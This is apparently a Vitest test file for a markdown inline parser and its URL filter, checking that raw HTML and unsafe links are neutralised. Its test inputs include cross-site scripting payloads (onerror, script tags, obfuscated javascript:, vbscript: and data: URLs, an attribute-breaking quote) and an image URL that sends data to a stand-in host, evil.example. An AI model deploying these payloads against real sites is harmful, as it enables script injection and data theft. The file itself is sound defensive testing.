import { describe, expect, it } from 'vitest';
import { type Inline, parseInline, safeHref } from './parse-inline.ts';

/** Every href the tree would put in the page. */
function hrefs(nodes: Inline[]): string[] {
  return nodes.flatMap((node) =>
    node.kind === 'link'
      ? [node.href, ...hrefs(node.children)]
      : 'children' in node
        ? hrefs(node.children)
        : [],
  );
}

describe('parseInline', () => {
  it('parses code, strong, emphasis, strike-through and line breaks', () => {
    expect(parseInline('**bold** _it_ `a<b>` ~~gone~~\nnext')).toEqual([
      { kind: 'strong', children: [{ kind: 'text', text: 'bold' }] },
      { kind: 'text', text: ' ' },
      { kind: 'em', children: [{ kind: 'text', text: 'it' }] },
      { kind: 'text', text: ' ' },
      { kind: 'code', text: 'a<b>' },
      { kind: 'text', text: ' ' },
      { kind: 'del', children: [{ kind: 'text', text: 'gone' }] },
      { kind: 'break' },
      { kind: 'text', text: 'next' },
    ]);
  });

  it('keeps snake_case words and unmatched markers as text', () => {
    expect(parseInline('snake_case_name and 2 * 3 and **open')).toEqual([
      { kind: 'text', text: 'snake_case_name and 2 * 3 and **open' },
    ]);
  });

  it('does not close underscores inside a word', () => {
    expect(parseInline('window.__xss=1 and window.__xss=2')).toEqual([
      { kind: 'text', text: 'window.__xss=1 and window.__xss=2' },
    ]);
    expect(parseInline('__bold__ then _it_.')).toEqual([
      { kind: 'strong', children: [{ kind: 'text', text: 'bold' }] },
      { kind: 'text', text: ' then ' },
      { kind: 'em', children: [{ kind: 'text', text: 'it' }] },
      { kind: 'text', text: '.' },
    ]);
  });

  it('keeps raw HTML as text', () => {
    expect(parseInline('<img src=x onerror="alert(1)"><script>alert(2)</script>')).toEqual([
      { kind: 'text', text: '<img src=x onerror="alert(1)"><script>alert(2)</script>' },
    ]);
  });

  it.each([
    '[click](javascript:alert(1))',
    '[click](JaVaScRiPt:alert(1))',
    '[click](&#106;avascript:alert(1))',
    '[click](java\tscript:alert(1))',
    '[click](vbscript:msgbox(1))',
    '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[click](/relative/path)',
    '[x](https://example.com/"onmouseover="alert(1))',
    '<javascript:alert(1)>',
    'javascript:alert(1)',
  ])('does not turn %s into a link', (source) => {
    expect(hrefs(parseInline(source))).toEqual([]);
  });

  it('links http, https and mailto, written or bare', () => {
    expect(
      hrefs(
        parseInline(
          '[docs](https://example.com/a?b=1) http://example.org. [mail](mailto:someone@example.com)',
        ),
      ),
    ).toEqual(['https://example.com/a?b=1', 'http://example.org', 'mailto:someone@example.com']);
  });

  it('shows an image as its alt text and never as a URL to load', () => {
    const nodes = parseInline('![secret](https://evil.example/collect?data=abc)');
    expect(hrefs(nodes)).toEqual([]);
    expect(JSON.stringify(nodes)).not.toContain('evil.example');
  });

  it('accepts only http, https and mailto targets without quotes or spaces', () => {
    expect(safeHref(' https://a.example/x ')).toBe('https://a.example/x');
    expect(safeHref('https://a.example/"x')).toBeUndefined();
    expect(safeHref('ftp://a.example')).toBeUndefined();
  });
});
